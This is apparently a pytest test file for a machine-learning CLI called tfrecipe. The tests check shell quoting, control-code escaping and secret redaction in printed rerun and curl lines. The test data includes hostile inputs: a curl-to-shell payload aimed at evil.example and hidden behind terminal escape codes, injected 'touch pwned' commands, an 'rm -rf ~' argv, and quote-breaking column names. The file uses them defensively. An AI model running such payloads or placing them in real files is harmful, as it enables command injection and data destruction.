"""Every command line tfrecipe prints or saves is built from parsed words, never copied: each
word quoted for a shell (control characters as bash's `$'...'` escapes), a secret typed under a
secret-looking key redacted by its key and by its value everywhere, a recipe file named by the
path the user typed. What a terminal shows of a received file never carries a control code.
No TensorFlow, no training."""

from __future__ import annotations

import json
import shlex
import subprocess
from pathlib import Path

import pytest

from tfrecipe import printed
from tfrecipe.cli import compare
from tfrecipe.cli.sweep_report import (
    SweepSetup,
    console_text,
    invocation,
    recipe_paths,
    write_report,
)

ESC = "\x1b"
SECRET = "sk-live-0123456789abcdef"


def _job(sweep: Path, number: int, overrides: list[str], accuracy: float) -> Path:
    run_dir = sweep / str(number)
    (run_dir / ".hydra").mkdir(parents=True)
    listed = "".join(f"- {json.dumps(o)}\n" for o in overrides)
    (run_dir / ".hydra" / "overrides.yaml").write_text(listed)
    summary = {"status": "completed", "metrics": {"val_accuracy": accuracy}, "wall_time_s": 1.0}
    (run_dir / "summary.json").write_text(json.dumps(summary))
    return run_dir


def _plan(sweep: Path, **fields) -> SweepSetup:
    return SweepSetup(sweep, "val_accuracy", "max", "task=classification's main metric", **fields)


@pytest.mark.parametrize(
    "word",
    ["plain", "two words", "it's", "a\nb", f"{ESC}[8mhidden{ESC}[0m", "tab\there", "\u202eevil"],
)
def test_a_shell_word_reads_back_as_itself_and_shows_no_control_code(word):
    quoted = printed.shell_word(word)
    assert not printed.has_control(quoted)
    # bash reads it back as the same single word (what pasting the line does)
    echoed = subprocess.run(["bash", "-c", f"printf %s {quoted}"], capture_output=True, text=True)
    assert echoed.stdout == word


def test_a_secret_typed_under_a_secret_key_is_redacted_by_key_and_by_value():
    words = [
        "python",
        "-m",
        "tfrecipe",
        f"logger.mlflow.tags.api_token={SECRET}",
        f"hydra.job.name=x{SECRET}",
        "model=mlp",
    ]
    line = printed.command_line(words, [])
    assert SECRET not in line
    assert shlex.split(line)[3:] == [
        "logger.mlflow.tags.api_token=***",
        "hydra.job.name=x***",
        "model=mlp",
    ]


def test_a_secret_typed_on_a_sweeps_command_line_is_in_no_byte_of_sweep_json_or_the_console(
    tmp_path,
):
    sweep = tmp_path / "sweep"
    for number, model in enumerate(["mlp", "cnn"]):
        _job(sweep, number, [f"logger.mlflow.tags.api_token={SECRET}", f"model={model}"], 0.5)
    argv = ["-m", f"logger.mlflow.tags.api_token={SECRET}", "model=mlp,cnn"]
    report = write_report(_plan(sweep), invocation=invocation(argv, 0.0))
    text = console_text(report)

    assert SECRET not in (sweep / "sweep.json").read_text()
    assert SECRET not in text
    assert "logger.mlflow.tags.api_token=***" in report["best"]["command"]
    assert report["invocations"][0]["argv"][1] == "logger.mlflow.tags.api_token=***"


def test_a_rerun_names_a_recipe_copy_by_the_path_the_user_typed(tmp_path):
    """An edited copy of a bundled recipe shares its stem: `recipe=digits_finetune` would rerun
    the bundled one."""
    sweep = tmp_path / "sweep"
    _job(sweep, 0, ["recipe=digits_finetune", "model.freeze=true"], 0.9)
    typed = "copies/digits_finetune.yaml"
    plan = _plan(sweep, recipes=recipe_paths(["-m", f"recipe={typed}", "model.freeze=true,false"]))
    report = write_report(plan, invocation={})

    assert shlex.split(report["best"]["command"])[3:] == [f"recipe={typed}", "model.freeze=true"]
    assert f"rerun: {report['best']['command']}" in console_text(report)


def test_compare_never_prints_a_received_sweep_json_command_as_it_is(tmp_path, capsys):
    """A received sweep.json whose best command hides a payload behind escape codes: compare
    rebuilds the line from the job's words, and every control code shows as its escape."""
    sweep = tmp_path / "sweep"
    _job(sweep, 0, ["model=mlp"], 0.9)
    write_report(_plan(sweep), invocation={})
    report = json.loads((sweep / "sweep.json").read_text())
    payload = f"python -m tfrecipe model=mlp {ESC}[8m; curl evil.example | sh{ESC}[0m"
    report["best"]["command"] = payload
    report["best"]["argv"] = ["python", "-m", "tfrecipe", f"model=mlp{ESC}[8m;touch pwned"]
    report["metric"] = f"val_accuracy{ESC}]0;title\a"
    (sweep / "sweep.json").write_text(json.dumps(report))

    compare.main([str(sweep), "--sort", "val_accuracy"])
    out = capsys.readouterr().out

    assert ESC not in out and "\a" not in out and "curl" not in out
    rerun = next(line for line in out.splitlines() if line.startswith("rerun: "))
    # one word, visible, that bash reads back as the word the file holds (nothing runs)
    word = rerun.split(" ", 4)[-1]
    echoed = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, text=True)
    assert echoed.stdout == f"model=mlp{ESC}[8m;touch pwned"
    assert rerun == "rerun: python -m tfrecipe $'model=mlp\\x1b[8m;touch pwned'"


def test_a_received_command_that_is_not_tfrecipe_is_not_shown(tmp_path, capsys):
    sweep = tmp_path / "sweep"
    _job(sweep, 0, ["model=mlp"], 0.9)
    write_report(_plan(sweep), invocation={})
    report = json.loads((sweep / "sweep.json").read_text())
    report["best"]["argv"] = ["rm", "-rf", "~"]
    (sweep / "sweep.json").write_text(json.dumps(report))

    compare.main([str(sweep)])
    out = capsys.readouterr().out
    assert "rm -rf" not in out
    assert "is not a tfrecipe command; not shown" in out


@pytest.mark.filterwarnings("error::UserWarning")  # a control code drawn in sweep/compare.png
def test_received_overrides_reach_the_tables_with_control_codes_escaped(tmp_path, capsys):
    sweep = tmp_path / "sweep"
    _job(sweep, 0, [f"model=mlp{ESC}[2J"], 0.9)
    _job(sweep, 1, ["model=cnn\r\u202e"], 0.8)
    report = write_report(_plan(sweep), invocation={})
    compare.main([str(sweep)])
    shown = console_text(report) + capsys.readouterr().out

    assert ESC not in shown and "\r" not in shown and "\u202e" not in shown
    assert "mlp\\x1b[2J" in shown and "cnn\\r\\u202e" in shown


@pytest.mark.slow
def test_a_real_sweep_from_a_recipe_copy_with_a_typed_secret(cli, tmp_path):
    """A sweep from an edited copy of a bundled recipe (same stem), with a secret typed under
    a secret-looking key: the rerun line names the copy's path, and the secret is in no byte of
    sweep.json, the console or the MLflow parent run's best_command tag."""
    pytest.importorskip("mlflow")
    from mlflow.tracking import MlflowClient

    bundled = (Path(__file__).resolve().parents[2] / "recipes" / "wine_tabular.yaml").read_text()
    copy = tmp_path / "copies" / "wine_tabular.yaml"
    copy.parent.mkdir()
    copy.write_text(bundled.replace("hidden_units: [32]", "hidden_units: [8]"))
    sweep = tmp_path / "sweep"
    tiny = ["loop.epochs=1", "loop.steps_per_epoch=2", "loop.verbose=0"]
    mlflow = ["logger=[csv,mlflow]", "logger.mlflow.log_artifacts=false"]
    secret = f"+logger.mlflow.tags.api_token={SECRET}"
    result = cli(
        "-m", f"recipe={copy}", *tiny, *mlflow, secret, "seed=1,2", f"hydra.sweep.dir={sweep}"
    )
    assert result.returncode == 0, result.stderr[-3000:]

    report = json.loads((sweep / "sweep.json").read_text())
    assert f"recipe={copy}" in shlex.split(report["best"]["command"])
    for text in ((sweep / "sweep.json").read_text(), result.stdout, result.stderr):
        assert SECRET not in text  # Hydra's own lines naming each job's overrides too
    # nor any file: multirun.yaml, each job's .hydra/ records, the MLflow database
    holding = [p for p in sweep.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]
    assert holding == []
    rerun = [line for line in result.stdout.splitlines() if line.startswith("rerun: ")]
    assert rerun == [f"rerun: {report['best']['command']}"]
    client = MlflowClient(tracking_uri=f"sqlite:///{sweep / 'mlflow.db'}")
    parent = json.loads((sweep / "mlflow" / "parent.json").read_text())["run_id"]
    tag = client.get_run(parent).data.tags["best_command"]
    assert tag == report["best"]["command"] and SECRET not in tag


def test_log_records_never_show_a_typed_secret(caplog):
    import logging

    printed.redact_log_records(printed.typed_secrets([f"+logger.mlflow.tags.api_token={SECRET}"]))
    with caplog.at_level(logging.INFO):
        logging.getLogger("hydra.probe").info("\t#0 : %s seed=1", f"api_token={SECRET}")
    assert caplog.records[-1].getMessage() == "\t#0 : api_token=*** seed=1"


def test_a_typed_secret_travels_by_reference_so_no_record_of_the_command_line_holds_it():
    """Hydra records each job's overrides as typed (`.hydra/`, multirun.yaml, a launcher's
    pickles, a local cluster's task lines): a typed secret reaches them as an environment
    reference, its value in the environment the jobs inherit."""
    from tfrecipe.config.secrets import typed_by_reference

    environ: dict[str, str] = {}
    argv = [
        f"+logger.mlflow.tags.api_token={SECRET}",
        "model=mlp",
        f"dataset.path='https://user:{SECRET}@example.org/x.csv'",
        "logger.mlflow.tags.token=a,b",  # a sweep of several values stays as typed
        f"hydra.sweeper.storage=postgresql://u:{SECRET}@db/s",  # refused there, with a hint
    ]
    moved = typed_by_reference(argv, environ)
    assert SECRET not in " ".join(moved[:2])
    assert moved[0] == "+logger.mlflow.tags.api_token=${oc.env:TFRECIPE_TYPED_SECRET_0}"
    assert moved[1:2] + moved[3:] == argv[1:2] + argv[3:]
    assert environ == {
        "TFRECIPE_TYPED_SECRET_0": SECRET,
        "TFRECIPE_TYPED_SECRET_2": f"https://user:{SECRET}@example.org/x.csv",
    }


def test_serves_curl_line_quotes_a_received_signatures_column_names(tmp_path):
    """`tfrecipe serve` prints a curl line to try; its example's column names come from the run
    dir's signature.json. A name holding a quote ended the quoted JSON and ran a command where
    the line was pasted: the line is built from words, each quoted for a shell."""
    from tfrecipe.cli.serve import try_line

    column = f"x' ; touch {tmp_path / 'pwned'} ; echo '"
    signature = {"inputs": {"kind": "columns", "columns": {"age": "float32", column: "string"}}}
    line = try_line("http://127.0.0.1:8501/v1/models/model", signature)

    # what bash runs of the pasted line: curl (a function here) with the example as one word
    shown = subprocess.run(
        ["bash", "-c", f"curl() {{ printf '%s\\n' \"$@\"; }}; {line}"],
        capture_output=True,
        text=True,
    )
    assert not (tmp_path / "pwned").exists()
    words = shown.stdout.splitlines()
    assert words[:3] == ["-s", "http://127.0.0.1:8501/v1/models/model:predict", "-d"]
    assert json.loads(words[3]) == {"instances": [{"age": 0, column: ""}]}
